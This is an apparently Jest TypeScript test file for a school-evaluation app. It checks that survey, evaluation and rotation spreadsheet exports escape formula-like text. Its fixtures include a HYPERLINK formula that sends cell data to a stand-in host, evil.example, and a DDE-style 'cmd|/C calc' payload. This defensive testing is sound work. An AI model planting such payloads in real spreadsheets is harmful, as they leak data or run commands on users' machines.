import { parseString } from '@fast-csv/parse';
import ExcelJS from 'exceljs';
import { createCore } from '../../../src/core';
import { loadSeed } from '../../../src/features/catalog/seed/load-seed';
import { seedData } from '../../../src/features/catalog/seed/seed-data';
import { rotationSheet, rotationTemplate } from '../../../src/features/rotation/rotation-file';
import { SurveyService } from '../../../src/features/surveys/survey-service';
import { boundParent } from '../surveys/bound-parent';
import { TestClient } from '../../../../tests/support/api-client';
import { createTestTable, type TestTable } from '../../../../tests/support/dynamo';
import { prepareJingwuEvaluation } from '../../../../tests/support/evaluation';
import { satisfactionAnswers, templateSurvey } from '../../../../tests/support/surveys';
import { testConfig } from '../../../../tests/support/test-config';

/**
 * Exports carry text others wrote (school and group names, question titles, evidence, free
 * text). Whatever it starts with, no spreadsheet program may evaluate it: each file is produced
 * with hostile text and read back (exceljs for XLSX, a CSV parser for CSV).
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
const HOSTILE_SCHOOLS: Record<string, string> = {
  'jn-jingwulu-ps': '+经五路小学',
  'jn-jingwei-ps': '-经纬小学',
  'jn-jingbalu-ps': '@SUM(1+1)*cmd|"/C calc"!A0',
};
const HOSTILE_GROUP = '@经五教育集团';
/** What a spreadsheet reads as the start of a formula (and the full-width forms). */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

type Cell = { sheet: string; address: string; value: unknown; formula: string | undefined; type: ExcelJS.ValueType };

async function cellsOf(file: Buffer): Promise<Cell[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(file as never);
  const cells: Cell[] = [];
  for (const sheet of book.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) =>
        cells.push({ sheet: sheet.name, address: cell.address, value: cell.value, formula: cell.formula, type: cell.type }),
      ),
    );
  return cells;
}

/** Every cell is a value (no formula), and no text cell starts like a formula. */
function expectNothingEvaluated(cells: Cell[]) {
  expect(cells.filter((c) => c.formula !== undefined || c.type === ExcelJS.ValueType.Formula)).toEqual([]);
  expect(cells.filter((c) => typeof c.value === 'string' && FORMULA_START.test(c.value))).toEqual([]);
}

/** The hostile text is still there, to be read: as a string cell, after the apostrophe that marks it as text. */
function expectReadable(cells: Cell[], text: string) {
  const found = cells.filter((c) => c.value === `'${text}`);
  expect(found.length).toBeGreaterThan(0);
  expect(found.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
}

describe('exports that spreadsheet programs never evaluate', () => {
  let table: TestTable;
  let core: ReturnType<typeof createCore>;
  let admin: TestClient;

  beforeAll(async () => {
    // Prepare: the demo data with hostile names for 经五's schools and group.
    table = await createTestTable('exports');
    await loadSeed(table.catalog, undefined, {
      ...seedData,
      schools: seedData.schools.map((s) => ({ ...s, name: HOSTILE_SCHOOLS[s.id] ?? s.name })),
      groups: seedData.groups.map((g) => (g.id === 'jn-jingwu' ? { ...g, name: HOSTILE_GROUP } : g)),
    });
    core = createCore(testConfig(table.tableName, 'local', { AUTH_DEV_LOGIN: '1', RATE_WRITES_CAPACITY: '10000' }));
    admin = new TestClient(core.app);
    await admin.devLogin('district_admin');
  });
  afterAll(() => table.drop());

  const download = async (path: string) => {
    const res = await core.app.request(path, { headers: { authorization: `Bearer ${admin.token}` } });
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  };

  it('writes a survey export whose hostile names, titles and free texts are text', async () => {
    // Prepare: hostile question titles and dimension, a free-text answer with a formula, answers from every school.
    const surveys = new SurveyService(core.infra);
    const definition = templateSurvey({ districtId: 'jinan-shizhong', groupIds: ['jn-jingwu'] });
    definition.questions = definition.questions.map((q, i) =>
      i === 0 ? { ...q, title: HYPERLINK } : i === 1 && q.type === 'likert' ? { ...q, title: '\t第二题', dimension: '＝师德' } : q,
    );
    const { id } = await surveys.create(definition, 'test', { minN: 5 });
    let n = 0;
    for (const schoolId of Object.keys(HOSTILE_SCHOOLS))
      for (let i = 0; i < 5; i++)
        await surveys.submit(await boundParent(core, `p-${n++}`, schoolId), id, {
          schoolId,
          answers: { ...satisfactionAnswers(4), q7: { text: HYPERLINK } },
        });

    // Act
    const cells = await cellsOf(await download(`/api/admin/surveys/${id}/export`));

    // Assess
    expectNothingEvaluated(cells);
    for (const text of [HYPERLINK, '\t第二题', '＝师德', HOSTILE_GROUP, ...Object.values(HOSTILE_SCHOOLS)]) expectReadable(cells, text);
  });

  it('writes an evaluation export whose hostile school and group names, evidence and names of enterers are text', async () => {
    // Prepare: 经五's round, one manual score with hostile evidence and enterer.
    const { newRound, scoreAll } = await prepareJingwuEvaluation(core, admin);
    const roundId = await newRound('公式注入');
    await scoreAll(roundId, 80);
    const hostile = await admin.call('PUT', `/api/admin/rounds/${roundId}/scores`, {
      schoolId: 'jn-jingwulu-ps',
      dimensionId: 'teacher',
      indicatorId: 'overall',
      score: 70,
      evidence: HYPERLINK,
      enteredBy: '-王主任',
    });
    expect(hostile.status).toBe(200);

    // Act
    const cells = await cellsOf(await download(`/api/admin/rounds/${roundId}/export`));

    // Assess
    expectNothingEvaluated(cells);
    for (const text of [HYPERLINK, '-王主任', HOSTILE_GROUP, ...Object.values(HOSTILE_SCHOOLS)]) expectReadable(cells, text);
  });

  const ROTATION_ROWS = [
    ['教师姓名', '原学校'],
    [HYPERLINK, '+经五路小学'],
    ['@张明', '-经纬小学'],
    ['\t李华', '\r王芳'],
    ['＋赵强', '2026-09'],
    ['逗号,与"引号"', '普通文字'],
  ];

  it('writes rotation XLSX files whose text cells are text', async () => {
    // Act
    const cells = await cellsOf(await rotationSheet('xlsx', ROTATION_ROWS));

    // Assess
    expectNothingEvaluated(cells);
    for (const text of [HYPERLINK, '+经五路小学', '@张明', '-经纬小学', '\t李华', '＋赵强']) expectReadable(cells, text);
    // XML reads a bare CR back as LF; what matters is the apostrophe in front.
    expectReadable(cells, '\n王芳');
    expect(cells.map((c) => c.value)).toEqual(expect.arrayContaining(['2026-09', '逗号,与"引号"', '普通文字']));
  });

  it('writes rotation CSV files whose fields are text, quoted where needed', async () => {
    // Act
    const file = await rotationSheet('csv', ROTATION_ROWS);
    const parsed = await new Promise<string[][]>((resolve, reject) => {
      const rows: string[][] = [];
      parseString(file.toString('utf8').replace(/^\uFEFF/, ''), { headers: false })
        .on('error', reject)
        .on('data', (row: string[]) => rows.push(row))
        .on('end', () => resolve(rows));
    });

    // Assess: the same table, each hostile field behind an apostrophe, the others exactly as written.
    expect(parsed).toEqual(ROTATION_ROWS.map((row) => row.map((text) => (FORMULA_START.test(text) ? `'${text}` : text))));
    expect(parsed.flat().filter((field) => FORMULA_START.test(field))).toEqual([]);
  });

  it('still writes the rotation template as before, headers and example row unchanged', async () => {
    // Act
    const csv = (await rotationTemplate('csv')).toString('utf8');
    const cells = await cellsOf(await rotationTemplate('xlsx'));

    // Assess
    expect(csv).toBe(
      '\uFEFF教师姓名,学科,原学校,交流学校,交流类型,开始月份,结束月份,骨干级别,是否调动人事关系\r\n' +
        '张明,语文,济南市经八路小学,济南市经纬小学,集团内交流,2026-09,2028-08,区级,否\r\n',
    );
    expect(cells.map((c) => c.value)).toContain('济南市经八路小学');
  });
});
